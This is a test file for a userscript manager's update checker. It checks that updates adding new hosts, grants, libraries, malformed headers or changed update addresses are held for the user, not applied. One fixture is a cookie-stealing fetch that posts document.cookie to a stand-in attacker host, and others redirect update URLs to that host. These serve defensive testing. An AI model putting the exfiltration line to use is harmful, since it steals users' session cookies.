import { describe, expect, test } from "vitest";
import { createScriptLibrary } from "../../../script-library/script-library.ts";
import { contacts, openCheck, type Served, SOURCE, script, WEB } from "./check-updates.test-support.ts";

const states = (outcomes: readonly { readonly state: string }[]) => outcomes.map(({ state }) => state);

describe("update-scripts: check", () => {
	describe("libraries of a new version", () => {
		const LIBRARY = "https://cdn.test/x.js";
		const line = `require ${LIBRARY}`;
		const kept = {
			address: LIBRARY,
			text: "var x = 1;",
			load: { at: "2026-01-01T00:00:00Z", etag: "one", lastModified: null },
		};

		test("are loaded anew, and applied when they can do nothing new", async () => {
			const { check, install, served, library, asked } = openCheck();
			const id = await install(script("1", "1;", line), SOURCE, [kept]);
			served.set(SOURCE, { body: script("2", "1;", line) });
			served.set(LIBRARY, { body: "var x = 2;", etag: "two" });
			expect(states(await check(null))).toEqual(["updated"]);
			expect(asked.at(-1)).toEqual({ url: LIBRARY, etag: "one" });
			expect((await library.get(id))?.requires).toMatchObject([{ text: "var x = 2;", load: { etag: "two" } }]);
		});

		test("stay the same where their server says so", async () => {
			const { check, install, served, library } = openCheck();
			const id = await install(script("1", "1;", line), SOURCE, [kept]);
			served.set(SOURCE, { body: script("2", "1;", line) });
			served.set(LIBRARY, { body: "is not sent", etag: "one" });
			expect(states(await check(null))).toEqual(["updated"]);
			expect((await library.get(id))?.requires).toEqual([kept]);
		});

		test.each([
			["contacts a server", contacts("evil.test"), ["new-capabilities", "worse-rating", "changed-library"]],
			[
				"steals",
				"fetch('https://evil.test/', { method: 'POST', body: document.cookie });",
				["new-capabilities", "worse-rating", "changed-library"],
			],
			["cannot be rated", "var (", ["worse-rating", "changed-library"]],
		])("one that %s holds the update", async (_, body, reasons) => {
			const { check, install, served, library } = openCheck();
			const id = await install(script("1", "1;", line), SOURCE, [kept]);
			served.set(SOURCE, { body: script("2", "1;", line) });
			served.set(LIBRARY, { body });
			expect(states(await check(null))).toEqual(["held"]);
			expect((await library.updates(id)).held).toMatchObject({
				reasons,
				requires: [{ text: body }],
			});
			expect((await library.get(id))?.requires).toEqual([kept]);
		});

		test("a relative address is beside the script", async () => {
			const { check, install, served, library } = openCheck();
			const id = await install(script("1", "1;"), WEB);
			served.set(WEB, { body: script("2", "1;", "require lib/x.js") });
			served.set("https://web.test/lib/x.js", { body: "var x;" });
			expect(states(await check(null))).toEqual(["held"]);
			expect((await library.updates(id)).held?.requires).toMatchObject([{ address: "lib/x.js", text: "var x;" }]);
		});
	});

	test("what can do nothing new is applied, and the version before is kept", async () => {
		const { check, install, served, codeOf, library, changes } = openCheck();
		const id = await install(script("1"));
		served.set(SOURCE, { body: script("1.1", "document.title = 'better';") });
		expect(await check(null)).toEqual([{ id, state: "updated", version: "1.1", problem: null }]);
		expect(await codeOf(id)).toContain("better");
		expect((await library.get(id))?.history).toHaveLength(1);
		expect((await library.get(id))?.rating?.level).toBe("green");
		expect(changes()).toBe(1);
		expect(states(await check(null))).toEqual(["current"]);
		expect(changes()).toBe(1);
	});

	test.each([
		["a new host", contacts("evil.test"), []],
		["a new grant", "document.title = 'x';", ["grant GM_setClipboard"]],
		["a wider match", "document.title = 'x';", ["match https://other.test/*"]],
		["a new library", "document.title = 'x';", ["require https://cdn.test/x.js"]],
	])("%s waits for the user; until then the installed code stays", async (_, body, lines) => {
		const { check, install, served, codeOf, library, changes } = openCheck();
		const before = script("1");
		const id = await install(before);
		served.set(SOURCE, { body: script("2", body, ...lines) });
		served.set("https://cdn.test/x.js", { body: "var x;" });
		expect(states(await check(null))).toEqual(["held"]);
		expect(await codeOf(id)).toBe(before);
		const { held } = await library.updates(id);
		expect(held?.reasons).toContain("new-capabilities");
		expect(held?.requires.map(({ text }) => text)).toEqual(lines[0]?.startsWith("require") ? ["var x;"] : []);
		expect(changes()).toBe(0);
		expect(states(await check([id]))).toEqual(["held"]);
		await library.skipUpdate(id);
		expect(states(await check([id]))).toEqual(["skipped"]);
		served.set(SOURCE, { body: script("2.1", body, ...lines) });
		expect(states(await check([id]))).toEqual(["held"]);
	});

	test.each([
		["code above its block", (code: string) => `early();\n${code}`],
		["a key that is given twice", (code: string) => code.replace("// @match", "// @version 9\n// @match")],
		["an unusual space", (code: string) => code.replace("// @match ", "// @match\u00a0")],
		["its mark in a string", (code: string) => `${code}f("==UserScript==");\n`],
	])("a text with %s waits, and is stored as it is read", async (_, write) => {
		const { check, install, served, codeOf, library } = openCheck();
		const id = await install(script("1"));
		served.set(SOURCE, { body: write(script("2")) });
		expect(states(await check(null))).toEqual(["held"]);
		const { held } = await library.updates(id);
		expect([held?.code, held?.rating?.level, held?.reasons.includes("unclear-text")]).toEqual([
			write(script("2")),
			"green",
			true,
		]);
		expect(await codeOf(id)).toBe(script("1"));
	});

	test("a script that was installed with such a text is updated when its author has corrected it", async () => {
		const { check, install, served, codeOf } = openCheck();
		const id = await install(`early();\n${script("1")}`);
		served.set(SOURCE, { body: script("2", "early(); document.title = 'x';") });
		expect(states(await check(null))).toEqual(["updated"]);
		expect(await codeOf(id)).toBe(script("2", "early(); document.title = 'x';"));
	});

	test("one that could not be checked in full waits: what is new in it may not have been seen", async () => {
		const burn = "function burn(run) { return [...'x'.repeat(9_000)].length + run; }\n";
		const calls = Array.from({ length: 450 }, (_, run) => `burn(${run});`).join("\n");
		const { check, install, served, library } = openCheck();
		const id = await install(script("1", burn + calls));
		served.set(SOURCE, { body: script("2", burn + calls) });
		expect(states(await check(null))).toEqual(["held"]);
		expect((await library.updates(id)).held?.reasons).toEqual(["checked-in-part"]);
	});

	test("one that could not be rated, was edited here, or that the user wants to see, waits", async () => {
		const unrated = openCheck({ rate: false });
		await unrated.install(script("1"));
		unrated.served.set(SOURCE, { body: script("2") });
		expect(states(await unrated.check(null))).toEqual(["held"]);

		const { check, install, served, library, settings } = openCheck();
		const id = await install(script("1"));
		await library.edit(id, { code: script("1", "1;"), requires: [] });
		served.set(SOURCE, { body: script("2") });
		expect(states(await check(null))).toEqual(["held"]);
		expect((await library.updates(id)).held?.reasons).toEqual(["edited"]);

		await install(script("1"), WEB);
		served.set(WEB, { body: script("2") });
		await settings.change({ applyUpdates: "ask" });
		expect(states(await check(null))).toEqual(["held", "held"]);
	});

	test("asks with the entity tag of the last answer", async () => {
		const { check, install, served, asked } = openCheck();
		await install(script("1"));
		served.set(SOURCE, { body: script("1"), etag: '"one"' });
		await check(null);
		await check(null);
		expect(asked.map(({ etag }) => etag)).toEqual([null, '"one"']);
		served.set(SOURCE, { body: script("2"), etag: '"two"' });
		expect(states(await check(null))).toEqual(["updated"]);
		expect(states(await check(null))).toEqual(["current"]);
		expect(asked.at(-1)?.etag).toBe('"two"');
	});

	test("@updateURL is asked first, @downloadURL gives the code, the hub's own scripts come from the hub", async () => {
		const { check, install, served, asked, codeOf } = openCheck();
		const addresses = ["updateURL https://up.test/a.meta.js", "downloadURL https://down.test/a.user.js"];
		const id = await install(script("1", "1;", ...addresses), WEB);
		served.set("https://up.test/a.meta.js", { body: script("1", "", ...addresses), type: "text/plain" });
		expect(states(await check([id]))).toEqual(["current"]);
		served.set("https://up.test/a.meta.js", { body: script("2", "", ...addresses) });
		served.set("https://down.test/a.user.js", { body: script("2", "document.title = 'two';", ...addresses) });
		expect(states(await check([id]))).toEqual(["updated"]);
		expect(await codeOf(id)).toContain("two");
		const none = await install(script("1", "1;", "downloadURL none"), "https://none.test/a.user.js");
		expect(states(await check([none]))).toEqual(["no-address"]);
		asked.length = 0;
		const hub = await install(script("1", "1;", ...addresses));
		served.set(SOURCE, { body: script("1") });
		await check([hub]);
		expect(asked.map(({ url }) => url)).toEqual([SOURCE]);
	});

	test.each<[string, Served | null]>([
		["no network", null],
		["an error", { body: "", status: 500 }],
		["a page", { body: "<html>", type: "text/html" }],
		["no userscript", { body: "1;" }],
	])("%s changes nothing, and is said", async (_, answer) => {
		const { check, install, served, codeOf, library } = openCheck();
		const id = await install(script("1"), WEB);
		if (answer !== null) served.set(WEB, answer);
		const [outcome] = await check(null);
		expect(["failed", "current"]).toContain(outcome?.state);
		expect(await codeOf(id)).toBe(script("1"));
		if (outcome?.state === "failed") expect((await library.updates(id)).problem).toBe(outcome.problem);
	});

	test("a library that cannot be loaded stops the update as a whole", async () => {
		const { check, install, served, codeOf } = openCheck();
		const id = await install(script("1"));
		served.set(SOURCE, { body: script("2", "1;", "require https://cdn.test/gone.js") });
		expect(states(await check(null))).toEqual(["failed"]);
		expect(await codeOf(id)).toBe(script("1"));
	});

	test("storage that fails at any call: the script is the old or the new one, never a mixture", async () => {
		const counting = openCheck();
		await counting.install(script("1"));
		counting.served.set(SOURCE, { body: script("2", "1;", "grant none") });
		counting.store.failAt(null);
		await counting.check(null);
		const calls = counting.store.calls();
		for (let call = 0; call < calls; call += 1) {
			const { store, memory, install, served, check } = openCheck();
			const id = await install(script("1"));
			const after = script("2", "1;", "grant none");
			served.set(SOURCE, { body: after });
			store.failAt(call);
			await check(null).catch(() => undefined);
			const restart = () => createScriptLibrary({ store: memory, now: () => 0, newId: () => crypto.randomUUID() });
			const restarted = restart();
			const stored = await restarted.get(id);
			expect([script("1"), after], `call ${call}`).toContain(stored?.code);
			if (stored?.code === after) {
				expect((await restarted.version(id, stored.history[0] ?? ""))?.code).toBe(script("1"));
			}
			store.failAt(null);
			await check(null);
			expect((await restart().get(id))?.code, `after call ${call}`).toBe(after);
		}
	});

	test.each([
		["another download address", ["downloadURL https://evil.test/a.user.js"], ["new-update-address"]],
		["another address for the check alone", ["updateURL https://evil.test/a.meta.js"], ["new-update-address"]],
		["no updates any more", ["downloadURL none"], ["new-update-address"]],
		["another name", ["name Bright"], ["new-name"]],
		["another name in one language", ["name:de Bank"], ["new-name"]],
		["another namespace", ["namespace https://evil.test"], ["new-name"]],
		["both", ["name Bright", "updateURL https://evil.test/a.meta.js"], ["new-name", "new-update-address"]],
	])("an update with %s is held", async (_, lines, reasons) => {
		const { check, install, served, codeOf, library } = openCheck();
		const id = await install(script("1"), WEB);
		const next = script("2", undefined, ...lines);
		const [name] = lines.filter((line) => line.startsWith("name "));
		served.set(WEB, { body: name === undefined ? next : next.replace("// @name Dark\n", "") });
		expect(states(await check(null))).toEqual(["held"]);
		expect(await codeOf(id)).toBe(script("1"));
		expect((await library.updates(id)).held?.reasons).toEqual(reasons);
	});

	test("the address that a script was installed from may be written out, and the hub's own lines do not count", async () => {
		const { check, install, served } = openCheck();
		await install(script("1"), WEB);
		await install(script("1"), SOURCE);
		served.set(WEB, { body: script("2", undefined, `downloadURL ${WEB}`) });
		served.set(SOURCE, { body: script("2", undefined, "updateURL https://elsewhere.test/a.meta.js") });
		expect(states(await check(null))).toEqual(["updated", "updated"]);
	});
});
